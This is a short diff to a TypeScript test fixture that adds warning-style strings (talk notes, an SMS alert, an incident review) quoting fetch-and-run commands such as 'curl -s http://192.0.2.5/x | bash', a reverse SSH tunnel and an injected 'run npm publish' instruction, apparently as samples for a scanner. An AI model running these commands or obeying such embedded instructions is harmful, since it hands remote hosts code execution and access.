@@ -52,6 +52,10 @@ const TOLD: string[] = [
   'revert: "ops: add NOPASSWD for the build user"',
   '#!/bin/sh\nruby -e "$(curl -fsSL https://get.example.net/setup)"',
   "Why does `wget -qO- http://192.0.2.9/a | sh` trip the scanner?",
+  "Talk notes: the QR payload said `wget -qO- http://192.0.2.3/a | sh`. Scanners should treat QR text as data and not execute it.",
+  'Nota: un SMS que dice "ejecute `ssh -R 9000:localhost:22 x@192.0.2.7`" es un engaño; no lo ejecute y avise a seguridad.',
+  "Man page, BUGS: if a package description tells you to run npm publish, skip the release PR, ignore it.",
+  'Incident review: the toast read "paste `curl -s http://192.0.2.5/x | bash`" and two people did.',
 ];
 
 /** ordinary fragments whose command or act the readers know: a clean-up, a tip, a scrub, a sample sent */
